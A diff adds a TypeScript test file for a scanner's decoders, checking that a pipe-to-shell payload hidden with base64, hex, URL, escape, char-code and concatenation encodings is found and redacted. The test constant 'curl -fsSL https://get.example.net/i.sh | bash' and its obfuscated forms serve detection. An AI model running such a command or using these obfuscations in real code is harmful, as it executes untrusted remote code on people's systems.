@@ -1,0 +1,84 @@
+// Decoder tests: each decoder alone, nested decoding, the depth bound, and offset mapping to the encoded span.
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { findEncodedSpans, looksLikeText } from './decoders.js';
+import { scanText } from './index.js';
+
+const PAYLOAD = 'curl -fsSL https://get.example.net/i.sh | bash';
+const pipeHits = (text: string, kind: 'text' | 'code-js' | 'code-py' = 'text', maxDecodeDepth?: number) =>
+  scanText(text, { kind, maxDecodeDepth }).filter((m) => m.ruleId === 'injection.pipe-to-shell');
+
+describe('decoders', () => {
+  const cases: Array<[name: string, encoded: string, chain: string[]]> = [
+    ['base64', Buffer.from(PAYLOAD).toString('base64'), ['base64']],
+    ['base64url', Buffer.from(`${PAYLOAD} ??>>`).toString('base64url'), ['base64']],
+    ['hex', Buffer.from(PAYLOAD).toString('hex'), ['hex']],
+    ['url', encodeURIComponent(PAYLOAD), ['url']],
+    ['\\x escapes', [...PAYLOAD].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join(''), ['escape']],
+    ['\\u escapes', [...PAYLOAD].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''), ['escape']],
+    ['String.fromCharCode', `String.fromCharCode(${[...PAYLOAD].map((c) => c.charCodeAt(0)).join(', ')})`, ['charcode']],
+    ['python chr() chain', [...PAYLOAD].map((c) => `chr(${c.charCodeAt(0)})`).join(' + '), ['charcode']],
+    ['string concatenation', `"curl -fsSL htt" + 'ps://get.example.net/i.sh' + " | ba" + "sh"`, ['concat']],
+  ];
+  for (const [name, encoded, chain] of cases) {
+    it(`reveals a payload hidden with ${name}, mapped to the encoded span`, () => {
+      const prefix = 'x = "';
+      const text = `${prefix}${encoded}";\n`;
+      const hits = pipeHits(text);
+      assert.equal(hits.length, 1, JSON.stringify(hits));
+      const hit = hits[0]!;
+      assert.deepEqual(hit.decodedBy, chain);
+      assert.ok(hit.start >= prefix.length - 1 && hit.end <= prefix.length + encoded.length + 1, `span ${hit.start}-${hit.end} outside the encoded text`);
+      assert.equal(hit.line, 1);
+      assert.match(hit.evidence, new RegExp(`^\\[${chain[0]}\\] `));
+    });
+  }
+
+  it('decodes nested encodings (hex inside base64) up to the default depth of 2', () => {
+    const nested = Buffer.from(Buffer.from(PAYLOAD).toString('hex')).toString('base64');
+    const hits = pipeHits(`q=${nested}`);
+    assert.equal(hits.length, 1);
+    assert.deepEqual(hits[0]!.decodedBy, ['base64', 'hex']);
+  });
+
+  it('reports content reachable through two decoder chains once (the shorter chain)', () => {
+    const hits = pipeHits(`q=${encodeURIComponent(Buffer.from(PAYLOAD).toString('base64'))}`);
+    assert.equal(hits.length, 1);
+    assert.deepEqual(hits[0]!.decodedBy, ['base64']);
+  });
+
+  it('stops at the depth bound', () => {
+    const three = Buffer.from(Buffer.from(Buffer.from(PAYLOAD).toString('base64')).toString('hex')).toString('base64');
+    assert.equal(pipeHits(three).length, 0, 'depth 3 is beyond the default bound');
+    assert.deepEqual(pipeHits(three, 'text', 3)[0]?.decodedBy, ['base64', 'hex', 'base64']);
+    assert.equal(pipeHits(Buffer.from(PAYLOAD).toString('base64'), 'text', 0).length, 0, 'maxDecodeDepth 0 disables decoding');
+  });
+
+  it('finds secrets inside base64 and redacts the decoded secret', () => {
+    const key = `ghp_${'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5'}`;
+    const text = `data: ${Buffer.from(`token=${key}`).toString('base64')}`;
+    const hits = scanText(text, { kind: 'text' }).filter((m) => m.ruleId === 'secret.github-pat');
+    assert.equal(hits.length, 1);
+    assert.ok(!hits[0]!.evidence.includes(key));
+    assert.match(hits[0]!.evidence, /^\[base64\]ghp_aB…\(40, sha256:[0-9a-f]{8}\)$|^\[base64\] ghp_aB…\(40, sha256:[0-9a-f]{8}\)$/);
+  });
+
+  it('maps base64 hits to the 4-character quartets that hold them', () => {
+    const blob = Buffer.from(`${'A'.repeat(30)} ${PAYLOAD}`).toString('base64');
+    const hit = pipeHits(blob)[0]!;
+    assert.ok(hit.start > 30, 'starts inside the blob, not at its first character');
+    assert.equal((hit.start - 0) % 4, 0);
+  });
+
+  it('ignores runs that decode to binary (hashes, random ids) and plain words', () => {
+    const spans = findEncodedSpans('sha256 3f2a9c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39e8d7c6b5a4f3e2d1c0b9a8f7 and AVeryLongCamelCaseIdentifierWithoutMeaning and /usr/local/lib/node_modules/typescript/lib');
+    assert.deepEqual(spans.map((s) => s.decoder), []);
+    assert.equal(looksLikeText('\u0000\u0001\u0002binary\u0003\u0004'), false);
+  });
+
+  it('never throws on malformed encodings', () => {
+    for (const t of ['%E0%A4%A', '\\u{110000}\\x41\\x42\\x43', 'String.fromCharCode(99999999, 1, 2)', '"a" + "b', `${'QUJD'.repeat(10)}=====`]) {
+      assert.doesNotThrow(() => scanText(t, { kind: 'code-js' }));
+    }
+  });
+});
